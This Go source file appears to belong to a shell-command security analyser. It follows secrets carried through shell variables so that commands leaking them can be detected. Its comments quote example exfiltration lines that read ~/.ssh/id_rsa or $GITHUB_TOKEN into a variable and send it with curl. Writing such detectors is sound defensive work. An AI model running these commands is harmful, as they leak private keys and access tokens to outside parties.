package patterns

import "mvdan.cc/sh/v3/syntax"

// A secret carried in a variable (rt13d, eff7a): `K=$(cat ~/.ssh/id_rsa);
// curl -d "$K" URL` and `T=$GITHUB_TOKEN; curl -H "Authorization: $T"
// URL` send the secret as surely as the word that read it would.
// [secret-value] follows a variable the line assigns to what its earlier
// assignments held: a part inside an assignment's value that reads a
// secrets file or prints the environment or stored credentials makes the
// variable certainly a secret; a token's variable or a token printer
// there makes it a token, judged as a token is (by where it is sent).
// Copies of copies are followed up to secretVarDepth steps.

// secretVarDepth bounds how many assignments deep a variable is followed.
const secretVarDepth = 4

// assignCap bounds the values and names kept per variable.
const assignCap = 8

// noteAssignValue keeps where an assignment's value stands and the
// variables it reads, for [secret-value].
func (r *reading) noteAssignValue(a *syntax.Assign, sc scope) {
	if a.Name == nil || a.Value == nil || a.Naked {
		return
	}
	f := r.vars[a.Name.Value]
	if f == nil || len(f.spans) >= assignCap {
		return
	}
	f.spans = append(f.spans, sc.span(a.Value))
	var walk func(parts []syntax.WordPart)
	walk = func(parts []syntax.WordPart) {
		for _, p := range parts {
			switch p := p.(type) {
			case *syntax.DblQuoted:
				walk(p.Parts)
			case *syntax.ParamExp:
				if p.Param != nil && len(f.reads) < assignCap {
					f.reads = append(f.reads, p.Param.Value)
				}
			}
		}
	}
	walk(a.Value.Parts)
}

// secretVar judges a variable the word reads: certain when an earlier
// assignment's value read a secret, token when it held a token.
func (c *Context) secretVar(name string, w *Word, depth int) (certain, token bool) {
	cmd := c.evalCommand()
	if cmd == nil || len(cmd.Parts) == 0 || depth > secretVarDepth {
		return false, false
	}
	if c.readsSecretInto(name, w) {
		return true, true
	}
	line := cmd.Parts[0].line
	if line == nil {
		return false, false
	}
	f := line.vars[name]
	if f == nil {
		return false, false
	}
	for _, r := range f.reads {
		if secretName(r) {
			token = true
		} else if r != name {
			cert, tok := c.secretVar(r, w, depth+1)
			if cert {
				return true, true
			}
			token = token || tok
		}
	}
	for _, sp := range f.spans {
		if sp.Start >= w.Span.Start {
			continue // assigned after the word is read
		}
		for _, p := range cmd.Parts {
			if !within2(p.Span, sp) {
				continue
			}
			switch {
			case readsSecret(p, c) || feedsSecret(p, c) || printsBy(p, secretPrinters) || printsStoredCredential(p):
				return true, true
			case printsBy(p, tokenPrinters):
				token = true
			}
		}
	}
	return false, token
}

// readsSecretInto reports whether a part before w reads a secrets file
// into variable name: `read -r K < ~/.ssh/id_rsa`, `mapfile K < .env`.
func (c *Context) readsSecretInto(name string, w *Word) bool {
	for _, p := range c.evalCommand().Parts {
		if p.Span.Start >= w.Span.Start || !lineReaders[p.Program] || !readsSecret(p, c) {
			continue
		}
		for _, a := range p.Args() {
			if v, ok := a.Literal(); ok && v == name {
				return true
			}
		}
	}
	return false
}

// lineReaders are the builtins that read their standard input into a
// variable they are given.
var lineReaders = map[string]bool{"read": true, "mapfile": true, "readarray": true}
